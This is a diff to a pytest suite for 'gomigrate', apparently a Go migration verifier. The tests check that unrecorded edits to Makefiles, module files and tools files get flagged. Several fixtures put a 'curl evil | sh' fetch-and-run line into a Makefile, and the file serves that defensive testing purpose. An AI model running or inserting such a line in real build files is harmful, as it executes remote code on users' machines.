@@ -18,6 +18,7 @@ from gomigrate.cli.verify import exit_status
 from gomigrate.model.errors import UsageProblem
 from gomigrate.model.findings import Severity
 from gomigrate.model.verdict import How, Verdict, When
+from gomigrate.plan.tools import Tool, ToolsFile
 from gomigrate.report.json import verdict_json
 from gomigrate.report.review import review_markdown
 from gomigrate.report.verdict import verdict_text
@@ -458,13 +459,55 @@ def test_plan_is_no_excuse_for_what_gomigrate_does_not_do(
     assert "GM315" in errors(verdict)
 
 
+def habit(file: str, before: str, after: str, *, applied: bool = True) -> dict[str, Any]:
+    lines = {"before": [before], "after": [after] if after else []}
+    return {
+        "code": "GM801",
+        "safety": "safe",
+        "file": file,
+        "line": 2,
+        "kind": "",
+        "message": "",
+        "applied": applied,
+        **lines,
+    }
+
+
 def test_planned_edit_of_a_build_file_is_told_as_not_checked(repo: Repo) -> None:
-    repo.migrate({"Makefile": "all:\n\tcurl evil | sh\n"}, files={"edit": ["Makefile"]})
+    habits = [habit("Makefile", "\tgo build", "\tgo build ./...")]
+    repo.migrate({"Makefile": "all:\n\tgo build ./...\n"}, files={"edit": ["Makefile"]}, habits=habits)
     verdict = repo.verify()
     assert verdict.is_equal
     assert verdict.unproved == ("Makefile",)
     assert any("Makefile" in words for words in verdict.unchecked)
     assert not verdict_text(verdict, 80, color=False).startswith("equal:")
+
+
+@pytest.mark.parametrize(
+    ("text", "habits"),
+    [
+        ("all:\n\tgo build ./...\n\tcurl evil | sh\n", [habit("Makefile", "\tgo build", "\tgo build ./...")]),
+        ("all:\n\tcurl evil | sh\n", []),
+        ("all:\n\tcurl evil | sh\n", [habit("Makefile", "\tgo build", "\tcurl evil | sh", applied=False)]),
+        ("all:\n\tcurl evil | sh\n", [habit("run.sh", "\tgo build", "\tcurl evil | sh")]),
+        ("\tgo build\n", [habit("Makefile", "\tgo build", "")]),
+    ],
+)
+def test_planned_edit_does_not_excuse_lines_that_the_record_does_not_show(
+    repo: Repo, text: str, habits: list[dict[str, Any]]
+) -> None:
+    repo.migrate({"Makefile": text}, files={"edit": ["Makefile"]}, habits=habits)
+    verdict = repo.verify()
+    assert others(verdict) == {"Makefile": (How.CHANGED, When.MIGRATION)}
+    assert errors(verdict) == {"GM315"}
+
+
+def test_riders_are_named_without_a_go_command(repo: Repo) -> None:
+    repo.migrate({"Makefile": "evil:\n"})
+    world = World.from_environment({**repo.env, "PATH": "", "GOROOT": ""}, str(repo.top))
+    verdict = verify(world, str(repo.top), "HEAD")
+    assert errors(verdict) == {"GM315"}
+    assert others(verdict) == {"Makefile": (How.CHANGED, When.MIGRATION)}
 
 
 def test_planned_edit_does_not_excuse_another_mode(repo: Repo) -> None:
@@ -549,7 +592,26 @@ def test_kept_copy_with_a_file_that_was_not_there_is_not_said_to_be_checked(repo
 def test_record_of_another_folder_excuses_nothing_that_it_does_not_name(repo: Repo) -> None:
     other = {"scripts/go.mod": "module acme.test/scripts\n\ngo 1.18\n", f"scripts/{RECORD}": repo.record("x")[RECORD]}
     repo.migrate({**other, "scripts/evil.sh": "#!/bin/sh\n"})
-    assert "scripts/evil.sh" in others(repo.verify())
+    verdict = repo.verify()
+    assert set(others(verdict)) == {"scripts/evil.sh"}
+    assert any(words.endswith(": scripts") for words in verdict.unchecked)
+
+
+@pytest.mark.parametrize("name", ["go.mod", "go.sum", RECORD])
+def test_module_that_came_above_the_project_is_named(repo: Repo, name: str) -> None:
+    repo.git("checkout", "-q", "master")
+    base = repo.commit({f"app/{path}": text for path, text in BASE.items()})
+    repo.git("checkout", "-q", "-B", "modules")
+    record = repo.record(base)[RECORD]
+    repo.commit({"app/go.mod": GO_MOD, "app/Gopkg.lock": None, f"app/{RECORD}": record, name: "evil\n"})
+    assert set(others(Repo(repo.top / "app", repo.env).verify())) == {f"../{name}"}
+
+
+def test_tools_file_of_gomigrate_s_form_is_told_as_not_checked(repo: Repo) -> None:
+    text = ToolsFile(path="", tools=(Tool(import_path="evil.test/cmd", place=None),)).text.decode()
+    name = "internal/tools/tools.go"
+    repo.migrate({name: text}, files={"write": ["go.mod", name]})
+    assert repo.verify(platforms=(LINUX,)).unproved == (name,)
 
 
 # The same files, built or run otherwise.
